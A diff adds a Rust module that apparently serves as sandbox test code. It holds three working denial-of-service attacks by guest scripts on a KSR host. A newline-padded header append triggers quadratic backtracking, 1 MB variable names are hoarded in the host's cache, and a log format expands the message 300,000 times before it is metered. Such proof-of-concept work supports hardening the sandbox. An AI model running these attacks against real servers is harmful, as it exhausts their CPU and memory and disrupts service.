@@ -1,0 +1,36 @@
+//! Attacks the host through the work or memory a single KSR call makes it spend, which no runtime limit
+//! sees (fuel counts guest work; the deadline is checked between calls). Still open: see docs/sandbox.md.
+
+use crate::raw;
+use std::sync::atomic::{AtomicU32, Ordering};
+
+/// One hdr.append of 20 000 newlines then 'x': the host's trailing-newline trim backtracks quadratically.
+pub fn header_redos() {
+    ksr::hdr::append(&format!("{}x", "\n".repeat(20_000)));
+}
+
+const NAME_BYTES: usize = 1_000_000;
+static NAMES: AtomicU32 = AtomicU32::new(0);
+
+/// 20 pv names of 1 MB each, a new one per call: the host's name cache keeps them across invocations.
+pub fn pv_name_hoard() {
+    // $var(<8 digits>xxxx...)
+    let mut name = vec![b'x'; NAME_BYTES];
+    name[..5].copy_from_slice(b"$var(");
+    name[NAME_BYTES - 1] = b')';
+    let mut area = [0u32; 3];
+    for _ in 0..20 {
+        let mut n = NAMES.fetch_add(1, Ordering::Relaxed) + 1;
+        for d in (5..13).rev() {
+            name[d] = b'0' + (n % 10) as u8;
+            n /= 10;
+        }
+        unsafe { raw::getw(name.as_ptr(), NAME_BYTES, area.as_mut_ptr() as usize) };
+    }
+}
+
+/// One xlog line whose format names the whole message 300 000 times: expanded before it is charged.
+pub fn xlog_amplify() {
+    let format = "$mb".repeat(300_000);
+    unsafe { raw::xinfo(format.as_ptr(), format.len()) };
+}
